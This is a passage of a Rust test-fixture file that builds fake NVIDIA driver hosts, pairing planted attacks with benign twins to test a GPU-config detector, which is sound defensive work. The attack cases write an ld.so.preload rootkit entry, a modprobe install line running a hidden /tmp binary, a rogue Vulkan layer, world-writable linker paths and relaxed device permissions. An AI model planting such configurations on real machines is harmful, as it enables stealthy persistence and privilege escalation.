//! Fake NVIDIA hosts for the GPU tables: a legitimate driver layout as
//! Debian's packages and NVIDIA's CUDA and container-toolkit repositories
//! lay it out, the seed's attack on it, its benign twin, and one
//! attack/twin pair per `gpu_driver_config` rule.
//!
//! File shapes (names, JSON keys, the modprobe install lines, the toolkit's
//! config.toml and the CDI spec's structure) follow what these packages
//! install: Debian bookworm's nvidia-graphics-drivers 535 (nvidia-kernel-
//! support's `nvidia-modprobe.conf` behind `/etc/alternatives`, nvidia-
//! vulkan-icd, libegl-nvidia0, nvidia-opencl-icd, nvidia-persistenced),
//! the CUDA repository's `ld.so.conf.d` entries, and the NVIDIA Container
//! Toolkit 1.17.8's default config.toml, OCI hook and `nvidia-ctk cdi
//! generate` output. Library and module contents are filler bytes.
#![allow(dead_code)]

use std::path::{Path, PathBuf};

use super::{md5_hex, FakeHost};

/// The driver version of the fake layout.
pub const DRIVER: &str = "535.183.01";
/// The kernel of the fake layout.
pub const KERNEL: &str = "6.1.0-21-amd64";
/// The multiarch library directory.
pub const LIBDIR: &str = "/usr/lib/x86_64-linux-gnu";

/// Debian's `/etc/nvidia/current/nvidia-modprobe.conf` (nvidia-kernel-
/// support), reached through `/etc/modprobe.d/nvidia.conf` and
/// `/etc/alternatives`.
pub const DEBIAN_MODPROBE: &str = "\
# This file was installed by nvidia-kernel-support.
install nvidia modprobe -i nvidia-current $CMDLINE_OPTS

install nvidia-modeset modprobe nvidia ; modprobe -i nvidia-current-modeset $CMDLINE_OPTS

install nvidia-drm modprobe nvidia-modeset ; modprobe -i nvidia-current-drm $CMDLINE_OPTS

install nvidia-uvm modprobe nvidia ; modprobe -i nvidia-current-uvm $CMDLINE_OPTS

install nvidia-peermem modprobe nvidia ; modprobe -i nvidia-current-peermem $CMDLINE_OPTS

remove nvidia modprobe -r -i nvidia-drm nvidia-modeset nvidia-peermem nvidia-uvm nvidia

remove nvidia-modeset modprobe -r -i nvidia-drm nvidia-modeset
";

/// nvidia-vulkan-icd's `/usr/share/vulkan/icd.d/nvidia_icd.json`.
pub const VULKAN_ICD: &str = r#"{
    "file_format_version" : "1.0.1",
    "ICD": {
        "library_path": "libGLX_nvidia.so.0",
        "api_version" : "1.3.277"
    }
}
"#;

/// The driver's Optimus implicit layer manifest.
pub const VULKAN_LAYER: &str = r#"{
    "file_format_version" : "1.0.1",
    "layer": {
        "name": "VK_LAYER_NV_optimus",
        "type": "INSTANCE",
        "library_path": "libGLX_nvidia.so.0",
        "api_version" : "1.3.277",
        "implementation_version" : "1",
        "description" : "NVIDIA Optimus layer",
        "functions": {
            "vkGetInstanceProcAddr": "vk_optimusGetInstanceProcAddr",
            "vkGetDeviceProcAddr": "vk_optimusGetDeviceProcAddr"
        },
        "enable_environment": {
            "__NV_PRIME_RENDER_OFFLOAD": "1"
        },
        "disable_environment": {
            "DISABLE_LAYER_NV_OPTIMUS_1": ""
        }
    }
}
"#;

/// libegl-nvidia0's `/usr/share/glvnd/egl_vendor.d/10_nvidia.json`.
pub const EGL_VENDOR: &str = r#"{
    "file_format_version" : "1.0.0",
    "ICD" : {
        "library_path" : "libEGL_nvidia.so.0"
    }
}
"#;

/// `/usr/share/egl/egl_external_platform.d/15_nvidia_gbm.json`.
pub const EGL_GBM: &str = r#"{
    "file_format_version" : "1.0.0",
    "ICD" : {
        "library_path" : "libnvidia-egl-gbm.so.1"
    }
}
"#;

/// nvidia-opencl-icd's `/etc/OpenCL/vendors/nvidia.icd`.
pub const OPENCL_ICD: &str = "libnvidia-opencl.so.1\n";

/// The container toolkit's default `/etc/nvidia-container-runtime/config.toml`.
pub const TOOLKIT_CONFIG: &str = r#"#accept-nvidia-visible-devices-as-volume-mounts = false
#accept-nvidia-visible-devices-envvar-when-unprivileged = true
disable-require = false
supported-driver-capabilities = "compat32,compute,display,graphics,ngx,utility,video"
#swarm-resource = "DOCKER_RESOURCE_GPU"

[nvidia-container-cli]
#debug = "/var/log/nvidia-container-toolkit.log"
environment = []
#ldcache = "/etc/ld.so.cache"
ldconfig = "@/sbin/ldconfig"
load-kmods = true
#no-cgroups = false
#path = "/usr/bin/nvidia-container-cli"
#root = "/run/nvidia/driver"
#user = "root:video"

[nvidia-container-runtime]
#debug = "/var/log/nvidia-container-runtime.log"
log-level = "info"
mode = "auto"
runtimes = ["docker-runc", "runc", "crun"]

[nvidia-container-runtime.modes]

[nvidia-container-runtime.modes.cdi]
annotation-prefixes = ["cdi.k8s.io/"]
default-kind = "nvidia.com/gpu"
spec-dirs = ["/etc/cdi", "/var/run/cdi"]

[nvidia-container-runtime.modes.csv]
mount-spec-path = "/etc/nvidia-container-runtime/host-files-for-container.d"

[nvidia-container-runtime-hook]
path = "nvidia-container-runtime-hook"
skip-mode-detection = false

[nvidia-ctk]
path = "nvidia-ctk"
"#;

/// The toolkit's OCI hook (`/usr/share/containers/oci/hooks.d/oci-nvidia-hook.json`).
pub const OCI_HOOK: &str = r#"{
    "version": "1.0.0",
    "hook": {
        "path": "/usr/bin/nvidia-container-runtime-hook",
        "args": ["nvidia-container-runtime-hook", "prestart"],
        "env": [
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
        ]
    },
    "when": {
        "always": true,
        "commands": [".*"]
    },
    "stages": ["prestart"]
}
"#;

/// `/etc/cdi/nvidia.yaml` as `nvidia-ctk cdi generate` (1.17.8) writes it:
/// every hook carries an explicit `env`.
pub fn cdi_spec(hook_env: bool) -> String {
    let env = if hook_env {
        "    env:\n    - NVIDIA_CTK_DEBUG=false\n"
    } else {
        ""
    };
    format!(
        "---
cdiVersion: 0.5.0
containerEdits:
  deviceNodes:
  - path: /dev/nvidia-modeset
  - path: /dev/nvidia-uvm
  - path: /dev/nvidia-uvm-tools
  - path: /dev/nvidiactl
  env:
  - NVIDIA_VISIBLE_DEVICES=void
  hooks:
  - args:
    - nvidia-cdi-hook
    - create-symlinks
    - --link
    - libnvidia-allocator.so.1::{LIBDIR}/gbm/nvidia-drm_gbm.so
{env}    hookName: createContainer
    path: /usr/bin/nvidia-cdi-hook
  - args:
    - nvidia-cdi-hook
    - enable-cuda-compat
    - --host-driver-version={DRIVER}
{env}    hookName: createContainer
    path: /usr/bin/nvidia-cdi-hook
  - args:
    - nvidia-cdi-hook
    - update-ldcache
    - --folder
    - {LIBDIR}
{env}    hookName: createContainer
    path: /usr/bin/nvidia-cdi-hook
  mounts:
  - containerPath: {LIBDIR}/libcuda.so.{DRIVER}
    hostPath: {LIBDIR}/libcuda.so.{DRIVER}
    options:
    - ro
    - nosuid
    - nodev
    - bind
  - containerPath: {LIBDIR}/libnvidia-ml.so.{DRIVER}
    hostPath: {LIBDIR}/libnvidia-ml.so.{DRIVER}
    options:
    - ro
    - nosuid
    - nodev
    - bind
devices:
- containerEdits:
    deviceNodes:
    - path: /dev/nvidia0
  name: \"0\"
- containerEdits:
    deviceNodes:
    - path: /dev/nvidia0
  name: GPU-5cf2ab41-6ee9-1a2b-4f3c-8f3e1e2d9a77
- containerEdits:
    deviceNodes:
    - path: /dev/nvidia0
  name: all
kind: nvidia.com/gpu
"
    )
}

/// nvidia-persistenced's unit.
pub const PERSISTENCED_UNIT: &str = "\
[Unit]
Description=NVIDIA Persistence Daemon
Wants=syslog.target
StopWhenUnneeded=true
Before=systemd-backlight@backlight:nvidia_0.service

[Service]
Type=forking
ExecStart=/usr/bin/nvidia-persistenced --user nvpd
ExecStopPost=/bin/rm -rf /var/run/nvidia-persistenced
";

/// A udev rule of the shape the driver packages ship.
pub const UDEV_RULE: &str = "\
# Load and unload nvidia-modeset module
ACTION==\"add\", DEVPATH==\"/bus/pci/drivers/nvidia\", RUN+=\"/sbin/modprobe nvidia-modeset\"
ACTION==\"remove\", DEVPATH==\"/bus/pci/drivers/nvidia\", RUN+=\"/sbin/modprobe -r nvidia-modeset\"
";

/// An administrator's `/etc/profile.d/cuda.sh` as CUDA's install guide says.
pub const CUDA_PROFILE: &str = "\
export PATH=/usr/local/cuda-12.4/bin${PATH:+:${PATH}}
export LD_LIBRARY_PATH=/usr/local/cuda-12.4/lib64${LD_LIBRARY_PATH:+:${LD_LIBRARY_PATH}}
";

/// Filler bytes for a fake binary (content does not matter, size does).
pub fn filler(size: usize, seed: u8) -> Vec<u8> {
    let mut v = Vec::with_capacity(size);
    let mut x: u32 = 0x9e37_79b9 ^ seed as u32;
    while v.len() < size {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        v.extend_from_slice(&x.to_le_bytes());
    }
    v.truncate(size);
    v
}

/// One package of the fake dpkg database.
pub struct DebPackage<'a> {
    /// Name.
    pub name: &'a str,
    /// Version.
    pub version: &'a str,
    /// Files (md5sums from their current content; links listed only).
    pub files: Vec<PathBuf>,
    /// Conffiles (md5 in `status`, not in md5sums).
    pub conffiles: Vec<PathBuf>,
}

/// Writes dpkg's `info/<pkg>.list`, `<pkg>.md5sums` and a `status` stanza,
/// as dpkg does: conffiles' md5s live in `status`, links have no md5.
pub fn dpkg_install(fh: &FakeHost, pkg: &DebPackage<'_>) {
    let mut list = std::collections::BTreeSet::new();
    let mut sums = String::new();
    for f in pkg.files.iter().chain(pkg.conffiles.iter()) {
        let mut p = f.as_path();
        while let Some(parent) = p.parent() {
            if parent == Path::new("/") {
                break;
            }
            list.insert(parent.to_path_buf());
            p = parent;
        }
        list.insert(f.clone());
    }
    for f in &pkg.files {
        let real = fh.real(f);
        let is_link = std::fs::symlink_metadata(&real)
            .map(|m| m.file_type().is_symlink())
            .unwrap_or(true);
        if !is_link {
            let bytes = std::fs::read(&real).expect("read packaged file");
            let rel = f.strip_prefix("/").unwrap_or(f);
            sums.push_str(&format!("{}  {}\n", md5_hex(&bytes), rel.display()));
        }
    }
    let list: String = list.iter().map(|p| format!("{}\n", p.display())).collect();
    fh.write(format!("/var/lib/dpkg/info/{}.list", pkg.name), list);
    fh.write(format!("/var/lib/dpkg/info/{}.md5sums", pkg.name), sums);
    let mut stanza = format!(
        "Package: {}\nStatus: install ok installed\nPriority: optional\nArchitecture: amd64\nVersion: {}\n",
        pkg.name, pkg.version
    );
    if !pkg.conffiles.is_empty() {
        stanza.push_str("Conffiles:\n");
        for c in &pkg.conffiles {
            let bytes = std::fs::read(fh.real(c)).expect("read conffile");
            stanza.push_str(&format!(" {} {}\n", c.display(), md5_hex(&bytes)));
        }
    }
    stanza.push_str("Description: fake\n\n");
    let status = fh.real(Path::new("/var/lib/dpkg/status"));
    let mut text = std::fs::read_to_string(&status).unwrap_or_default();
    text.push_str(&stanza);
    fh.write("/var/lib/dpkg/status", text);
}

/// Sizes of the fake binaries: `scale` bytes for a typical library (the
/// big ones are multiples of it).
fn lib(fh: &FakeHost, dir: &str, name: &str, size: usize, seed: u8) -> PathBuf {
    fh.write(format!("{dir}/{name}"), filler(size, seed))
}

/// Plants a legitimate Debian + CUDA-repository + container-toolkit NVIDIA
/// layout. `scale` is the size of a typical library in bytes (a few KB in
/// tests; MBs in the benchmark, which makes a few hundred MB in all).
/// Returns every regular file planted under the driver's binaries.
pub fn plant_legit_driver(fh: &FakeHost, scale: usize) -> Vec<PathBuf> {
    fh.passwd(&[("root", 0, "/root"), ("alice", 1000, "/home/alice")]);
    fh.mkdir("/tmp");
    fh.chmod("/tmp", 0o1777);
    fh.mkdir("/dev/shm");
    fh.chmod("/dev/shm", 0o1777);
    // Dynamic linker: stock Debian, plus the CUDA repository's entries.
    fh.write("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n\n");
    fh.write(
        "/etc/ld.so.conf.d/libc.conf",
        "# libc default configuration\n/usr/local/lib\n",
    );
    fh.write(
        "/etc/ld.so.conf.d/x86_64-linux-gnu.conf",
        "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
    );
    fh.write(
        "/etc/ld.so.conf.d/000_cuda.conf",
        "/usr/local/cuda/targets/x86_64-linux/lib\n",
    );
    fh.write(
        "/etc/ld.so.conf.d/988_cuda-12.conf",
        "/usr/local/cuda-12/targets/x86_64-linux/lib\n",
    );
    // modprobe through alternatives.
    let modconf = fh.write("/etc/nvidia/current/nvidia-modprobe.conf", DEBIAN_MODPROBE);
    fh.symlink(
        "/etc/nvidia/current/nvidia-modprobe.conf",
        "/etc/alternatives/nvidia--nvidia-modprobe.conf",
    );
    fh.symlink(
        "/etc/alternatives/nvidia--nvidia-modprobe.conf",
        "/etc/modprobe.d/nvidia.conf",
    );
    fh.write(
        "/usr/lib/modprobe.d/nvidia-kernel-common.conf",
        "alias char-major-195* nvidia\n",
    );
    // Loader manifests.
    let icd = fh.write("/usr/share/vulkan/icd.d/nvidia_icd.json", VULKAN_ICD);
    let layer = fh.write(
        "/usr/share/vulkan/implicit_layer.d/nvidia_layers.json",
        VULKAN_LAYER,
    );
    let egl = fh.write("/usr/share/glvnd/egl_vendor.d/10_nvidia.json", EGL_VENDOR);
    let gbm = fh.write(
        "/usr/share/egl/egl_external_platform.d/15_nvidia_gbm.json",
        EGL_GBM,
    );
    let ocl = fh.write("/etc/OpenCL/vendors/nvidia.icd", OPENCL_ICD);
    // Libraries: Debian keeps the driver's libraries under nvidia/current
    // and links the sonames; libcuda1 and libnvidia-ml1 in the multiarch dir.
    let cur = format!("{LIBDIR}/nvidia/current");
    let mut bins = Vec::new();
    let mut libs_glx = Vec::new();
    for (i, (name, mult)) in [
        ("libGLX_nvidia", 2usize),
        ("libEGL_nvidia", 1),
        ("libnvidia-glcore", 6),
        ("libnvidia-eglcore", 5),
        ("libnvidia-glsi", 1),
        ("libnvidia-tls", 1),
        ("libnvidia-opencl", 6),
        ("libnvidia-ptxjitcompiler", 4),
        ("libnvidia-nvvm", 6),
        ("libnvidia-rtcore", 8),
        ("libnvidia-gpucomp", 6),
    ]
    .into_iter()
    .enumerate()
    {
        let p = lib(
            fh,
            &cur,
            &format!("{name}.so.{DRIVER}"),
            scale * mult,
            i as u8,
        );
        libs_glx.push(p.clone());
        bins.push(p);
    }
    fh.symlink(
        format!("libGLX_nvidia.so.{DRIVER}"),
        format!("{cur}/libGLX_nvidia.so.0"),
    );
    fh.symlink(
        format!("libEGL_nvidia.so.{DRIVER}"),
        format!("{cur}/libEGL_nvidia.so.0"),
    );
    fh.symlink(
        format!("libnvidia-opencl.so.{DRIVER}"),
        format!("{cur}/libnvidia-opencl.so.1"),
    );
    fh.symlink(
        "nvidia/current/libGLX_nvidia.so.0",
        format!("{LIBDIR}/libGLX_nvidia.so.0"),
    );
    fh.symlink(
        "nvidia/current/libEGL_nvidia.so.0",
        format!("{LIBDIR}/libEGL_nvidia.so.0"),
    );
    fh.symlink(
        "nvidia/current/libnvidia-opencl.so.1",
        format!("{LIBDIR}/libnvidia-opencl.so.1"),
    );
    let cuda = lib(fh, LIBDIR, &format!("libcuda.so.{DRIVER}"), scale * 10, 40);
    fh.symlink(
        format!("libcuda.so.{DRIVER}"),
        format!("{LIBDIR}/libcuda.so.1"),
    );
    let ml = lib(
        fh,
        LIBDIR,
        &format!("libnvidia-ml.so.{DRIVER}"),
        scale * 2,
        41,
    );
    fh.symlink(
        format!("libnvidia-ml.so.{DRIVER}"),
        format!("{LIBDIR}/libnvidia-ml.so.1"),
    );
    let eglgbm = lib(fh, LIBDIR, "libnvidia-egl-gbm.so.1.1.0", scale / 4 + 1, 42);
    fh.symlink(
        "libnvidia-egl-gbm.so.1.1.0",
        format!("{LIBDIR}/libnvidia-egl-gbm.so.1"),
    );
    let alloc = lib(
        fh,
        LIBDIR,
        &format!("libnvidia-allocator.so.{DRIVER}"),
        scale / 2 + 1,
        43,
    );
    fh.symlink(
        format!("../libnvidia-allocator.so.{DRIVER}"),
        format!("{LIBDIR}/gbm/nvidia-drm_gbm.so"),
    );
    bins.extend([cuda.clone(), ml.clone(), eglgbm.clone(), alloc.clone()]);
    // Kernel modules (DKMS-built: no package owns them) and GSP firmware.
    let mut mods = Vec::new();
    for (i, (name, mult)) in [
        ("nvidia-current.ko", 12usize),
        ("nvidia-current-uvm.ko", 3),
        ("nvidia-current-modeset.ko", 2),
        ("nvidia-current-drm.ko", 1),
        ("nvidia-current-peermem.ko", 1),
    ]
    .into_iter()
    .enumerate()
    {
        mods.push(lib(
            fh,
            &format!("/lib/modules/{KERNEL}/updates/dkms"),
            name,
            scale * mult,
            60 + i as u8,
        ));
    }
    fh.write(
        format!("/lib/modules/{KERNEL}/kernel/drivers/gpu/drm/nouveau/nouveau.ko.xz"),
        b"nouveau",
    );
    bins.extend(mods.iter().cloned());
    let fw1 = lib(
        fh,
        &format!("/lib/firmware/nvidia/{DRIVER}"),
        "gsp_ga10x.bin",
        scale * 25,
        80,
    );
    let fw2 = lib(
        fh,
        &format!("/lib/firmware/nvidia/{DRIVER}"),
        "gsp_tu10x.bin",
        scale * 20,
        81,
    );
    bins.extend([fw1.clone(), fw2.clone()]);
    // Container toolkit.
    let cfg = fh.write("/etc/nvidia-container-runtime/config.toml", TOOLKIT_CONFIG);
    let hook = fh.write(
        "/usr/share/containers/oci/hooks.d/oci-nvidia-hook.json",
        OCI_HOOK,
    );
    fh.write("/etc/cdi/nvidia.yaml", cdi_spec(true));
    let mut progs = Vec::new();
    for (i, p) in [
        "nvidia-ctk",
        "nvidia-cdi-hook",
        "nvidia-container-runtime",
        "nvidia-container-runtime-hook",
    ]
    .iter()
    .enumerate()
    {
        progs.push(lib(fh, "/usr/bin", p, scale / 2 + 1, 90 + i as u8));
    }
    // Services.
    let unit = fh.write(
        "/usr/lib/systemd/system/nvidia-persistenced.service",
        PERSISTENCED_UNIT,
    );
    fh.write(
        "/usr/lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    );
    let udev = fh.write("/usr/lib/udev/rules.d/60-nvidia.rules", UDEV_RULE);
    // Environment: stock, plus the CUDA guide's profile script.
    fh.write("/etc/environment", "");
    fh.write("/etc/profile.d/cuda.sh", CUDA_PROFILE);
    fh.write(
        "/etc/security/pam_env.conf",
        "#REMOTEHOST\tDEFAULT=\tOVERRIDE=@{PAM_RHOST}\n",
    );
    // The packages that own all this.
    let l = |p: &str| PathBuf::from(p);
    dpkg_install(
        fh,
        &DebPackage {
            name: "nvidia-kernel-support",
            version: "535.183.01-1~deb12u1",
            files: vec![l("/usr/lib/modprobe.d/nvidia-kernel-common.conf")],
            conffiles: vec![modconf],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "nvidia-vulkan-icd",
            version: "535.183.01-1~deb12u1",
            files: vec![icd, layer],
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "libegl-nvidia0",
            version: "535.183.01-1~deb12u1",
            files: vec![
                egl,
                libs_glx[1].clone(),
                l(&format!("{LIBDIR}/libEGL_nvidia.so.0")),
            ],
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "libnvidia-egl-gbm1",
            version: "1.1.0-2",
            files: vec![gbm, eglgbm, l(&format!("{LIBDIR}/libnvidia-egl-gbm.so.1"))],
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "nvidia-opencl-icd",
            version: "535.183.01-1~deb12u1",
            files: vec![libs_glx[6].clone()],
            conffiles: vec![ocl],
        },
    );
    let mut glx: Vec<PathBuf> = libs_glx
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != 1 && *i != 6)
        .map(|(_, p)| p.clone())
        .collect();
    glx.push(l(&format!("{LIBDIR}/libGLX_nvidia.so.0")));
    dpkg_install(
        fh,
        &DebPackage {
            name: "libgl1-nvidia-glvnd-glx",
            version: "535.183.01-1~deb12u1",
            files: glx,
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "libcuda1",
            version: "535.183.01-1~deb12u1",
            files: vec![cuda, l(&format!("{LIBDIR}/libcuda.so.1"))],
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "libnvidia-ml1",
            version: "535.183.01-1~deb12u1",
            files: vec![ml, l(&format!("{LIBDIR}/libnvidia-ml.so.1")), alloc],
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "firmware-nvidia-gsp",
            version: "535.183.01-1~deb12u1",
            files: vec![fw1, fw2],
            conffiles: vec![],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "nvidia-persistenced",
            version: "535.171.04-1",
            files: vec![unit, udev],
            conffiles: vec![],
        },
    );
    let mut tk = progs;
    tk.push(hook);
    dpkg_install(
        fh,
        &DebPackage {
            name: "nvidia-container-toolkit-base",
            version: "1.17.8-1",
            files: tk,
            conffiles: vec![cfg],
        },
    );
    dpkg_install(
        fh,
        &DebPackage {
            name: "nvidia-container-toolkit",
            version: "1.17.8-1",
            files: vec![],
            conffiles: vec![],
        },
    );
    bins
}

/// The seed's attack: an `/etc/ld.so.preload` entry, a modprobe install
/// line that runs a library loader, and a Vulkan implicit layer from /tmp.
pub fn plant_seed_attack(fh: &FakeHost) {
    fh.write("/tmp/.nv/libnvcompat.so", filler(4096, 1));
    fh.write("/tmp/.nv/nvsvc", filler(4096, 2));
    fh.write("/tmp/.nv/libVkLayer_nvtelemetry.so", filler(4096, 3));
    fh.write("/etc/ld.so.preload", "/tmp/.nv/libnvcompat.so\n");
    fh.write(
        "/etc/modprobe.d/nvidia-persist.conf",
        "install nvidia /lib64/ld-linux-x86-64.so.2 /tmp/.nv/nvsvc; /sbin/modprobe --ignore-install nvidia $CMDLINE_OPTS\n",
    );
    fh.write(
        "/etc/vulkan/implicit_layer.d/nv_telemetry.json",
        r#"{"file_format_version":"1.0.0","layer":{"name":"VK_LAYER_NV_telemetry","type":"GLOBAL","library_path":"/tmp/.nv/libVkLayer_nvtelemetry.so","api_version":"1.3.0","implementation_version":"1","description":"NVIDIA telemetry","disable_environment":{"DISABLE_NV_TELEMETRY":"1"}}}"#,
    );
}

/// The seed attack's benign twin: the same modprobe and layer file names
/// with legitimate contents, and no `/etc/ld.so.preload` (stock systems
/// have none).
pub fn plant_seed_benign_twin(fh: &FakeHost) {
    fh.write(
        "/etc/modprobe.d/nvidia-persist.conf",
        "install nvidia modprobe -i nvidia-current $CMDLINE_OPTS\n",
    );
    fh.write(
        "/etc/vulkan/implicit_layer.d/nv_telemetry.json",
        r#"{"file_format_version":"1.0.0","layer":{"name":"VK_LAYER_NV_optimus","type":"INSTANCE","library_path":"libGLX_nvidia.so.0","api_version":"1.3.0","implementation_version":"1","description":"NVIDIA Optimus layer"}}"#,
    );
}

/// One attack on one file and its legitimate twin.
pub struct Case {
    /// The rule the attack must fire.
    pub rule_id: &'static str,
    /// The file both write (or the attack's file, when the twin is absence).
    pub path: &'static str,
    /// Plants the attack on a legitimate layout.
    pub attack: fn(&FakeHost),
    /// Plants the legitimate twin.
    pub twin: fn(&FakeHost),
}

fn nothing(_: &FakeHost) {}

/// Every rule of gpu_driver_config with an attack and its twin.
pub fn cases() -> Vec<Case> {
    vec![
        Case {
            rule_id: "ld-preload-entry",
            path: "/etc/ld.so.preload",
            attack: |fh| {
                fh.write("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
            },
            twin: |fh| {
                fh.write("/etc/ld.so.preload", "# empty\n");
            },
        },
        Case {
            rule_id: "ld-conf-temp-dir",
            path: "/etc/ld.so.conf.d/zz-nv.conf",
            attack: |fh| {
                fh.write("/etc/ld.so.conf.d/zz-nv.conf", "/dev/shm/.nv\n");
            },
            twin: |fh| {
                fh.write(
                    "/etc/ld.so.conf.d/zz-nv.conf",
                    "/usr/lib/x86_64-linux-gnu/nvidia/current\n",
                );
            },
        },
        Case {
            rule_id: "ld-conf-nonsystem-dir",
            path: "/etc/ld.so.conf.d/zz-nv.conf",
            attack: |fh| {
                fh.write("/etc/ld.so.conf.d/zz-nv.conf", "/var/lib/nvhelper\n");
            },
            twin: |fh| {
                fh.write(
                    "/etc/ld.so.conf.d/zz-nv.conf",
                    "/usr/local/cuda-12.4/targets/x86_64-linux/lib\n",
                );
            },
        },
        Case {
            rule_id: "ld-conf-writable-dir",
            path: "/etc/ld.so.conf.d/zz-nv.conf",
            attack: |fh| {
                fh.mkdir("/usr/local/lib/nv");
                fh.chmod("/usr/local/lib/nv", 0o777);
                fh.write("/etc/ld.so.conf.d/zz-nv.conf", "/usr/local/lib/nv\n");
            },
            twin: |fh| {
                fh.mkdir("/usr/local/lib/nv");
                fh.chmod("/usr/local/lib/nv", 0o755);
                fh.write("/etc/ld.so.conf.d/zz-nv.conf", "/usr/local/lib/nv\n");
            },
        },
        Case {
            rule_id: "ld-conf-include",
            path: "/etc/ld.so.conf",
            attack: |fh| {
                fh.write(
                    "/etc/ld.so.conf",
                    "include /etc/ld.so.conf.d/*.conf\ninclude /var/tmp/*.conf\n",
                );
            },
            twin: |fh| {
                fh.write("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n");
            },
        },
        Case {
            rule_id: "modprobe-install-command",
            path: "/etc/modprobe.d/nvidia-persist.conf",
            attack: |fh| {
                fh.write(
                    "/etc/modprobe.d/nvidia-persist.conf",
                    "install nvidia /lib64/ld-linux-x86-64.so.2 /tmp/.nv/nvsvc; /sbin/modprobe --ignore-install nvidia\n",
                );
            },
            twin: |fh| {
                fh.write("/etc/modprobe.d/nvidia-persist.conf", DEBIAN_MODPROBE);
            },
        },
        Case {
            rule_id: "modprobe-device-permissions",
            path: "/etc/modprobe.d/nvidia-options.conf",
            attack: |fh| {
                fh.write(
                    "/etc/modprobe.d/nvidia-options.conf",
                    "options nvidia NVreg_DeviceFileMode=0666 NVreg_DeviceFileGID=0\n",
                );
            },
            twin: |fh| {
                fh.write(
                    "/etc/modprobe.d/nvidia-options.conf",
                    "options nvidia NVreg_PreserveVideoMemoryAllocations=1\n",
                );
            },
        },
        Case {
            rule_id: "modprobe-profiling-unrestricted",
            path: "/etc/modprobe.d/nvidia-options.conf",
            attack: |fh| {
                fh.write(
                    "/etc/modprobe.d/nvidia-options.conf",
                    "options nvidia NVreg_RestrictProfilingToAdminUsers=0\n",
                );
            },
            twin: |fh| {
                fh.write(
                    "/etc/modprobe.d/nvidia-options.conf",
                    "options nvidia NVreg_RestrictProfilingToAdminUsers=1\n",
                );
            },
        },
        Case {
            rule_id: "icd-library-temp",
            path: "/etc/vulkan/implicit_layer.d/nv_telemetry.json",
            attack: plant_seed_attack,
            twin: plant_seed_benign_twin,
        },
        Case {
            rule_id: "icd-library-nonsystem",
            path: "/usr/share/glvnd/egl_vendor.d/10_nvidia.json",
            attack: |fh| {
                fh.write("/var/lib/nv/libEGL_nvidia.so.0", b"x");
                fh.write("/usr/share/glvnd/egl_vendor.d/10_nvidia.json", r#"{"file_format_version":"1.0.0","ICD":{"library_path":"/var/lib/nv/libEGL_nvidia.so.0"}}"#);
            },
            twin: |fh| {
                fh.write("/usr/share/glvnd/egl_vendor.d/10_nvidia.json", EGL_VENDOR);
            },
        },
        Case {
            rule_id: "icd-library-temp",
            path: "/etc/OpenCL/vendors/nvidia.icd",
            attack: |fh| {
                fh.write("/dev/shm/libnvidia-opencl.so.1", b"x");
                fh.write(
                    "/etc/OpenCL/vendors/nvidia.icd",
                    "/dev/shm/libnvidia-opencl.so.1\n",
                );
            },
            twin: |fh| {
                fh.write("/etc/OpenCL/vendors/nvidia.icd", OPENCL_ICD);
            },
        },
        Case {
            rule_id: "icd-library-missing",
            path: "/usr/share/vulkan/icd.d/nvidia_icd.json",
            attack: |fh| {
                fh.write(
                    "/usr/share/vulkan/icd.d/nvidia_icd.json",
                    VULKAN_ICD.replace("libGLX_nvidia.so.0", "libGLX_nvidia_ext.so.0"),
                );
            },
            twin: |fh| {
                fh.write("/usr/share/vulkan/icd.d/nvidia_icd.json", VULKAN_ICD);
            },
        },
        Case {
            rule_id: "icd-manifest-unreadable",
            path: "/usr/share/egl/egl_external_platform.d/15_nvidia_gbm.json",
            attack: |fh| {
                fh.write(
                    "/usr/share/egl/egl_external_platform.d/15_nvidia_gbm.json",
                    "{\"ICD\": {\"library_path\": ",
                );
            },
            twin: |fh| {
                fh.write(
                    "/usr/share/egl/egl_external_platform.d/15_nvidia_gbm.json",
                    EGL_GBM,
                );
            },
        },
        Case {
            rule_id: "toolkit-ldconfig-container",
            path: "/etc/nvidia-container-runtime/config.toml",
            attack: |fh| {
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    TOOLKIT_CONFIG.replace("\"@/sbin/ldconfig\"", "\"/sbin/ldconfig\""),
                );
            },
            twin: |fh| {
                fh.write("/etc/nvidia-container-runtime/config.toml", TOOLKIT_CONFIG);
            },
        },
        Case {
            rule_id: "toolkit-allow-ldconfig-from-container",
            path: "/etc/nvidia-container-runtime/config.toml",
            attack: |fh| {
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    format!("{TOOLKIT_CONFIG}\n[features]\nallow-ldconfig-from-container = true\n"),
                );
            },
            twin: |fh| {
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    format!(
                        "{TOOLKIT_CONFIG}\n[features]\nallow-ldconfig-from-container = false\n"
                    ),
                );
            },
        },
        Case {
            rule_id: "toolkit-allow-cuda-compat-from-container",
            path: "/etc/nvidia-container-runtime/config.toml",
            attack: |fh| {
                fh.write("/etc/nvidia-container-runtime/config.toml", format!("{TOOLKIT_CONFIG}\n[features]\nallow-cuda-compat-libs-from-container = true\n"));
            },
            twin: |fh| {
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    format!("{TOOLKIT_CONFIG}\n[features]\ndisable-cuda-compat-lib-hook = true\n"),
                );
            },
        },
        Case {
            rule_id: "toolkit-path-nonsystem",
            path: "/etc/nvidia-container-runtime/config.toml",
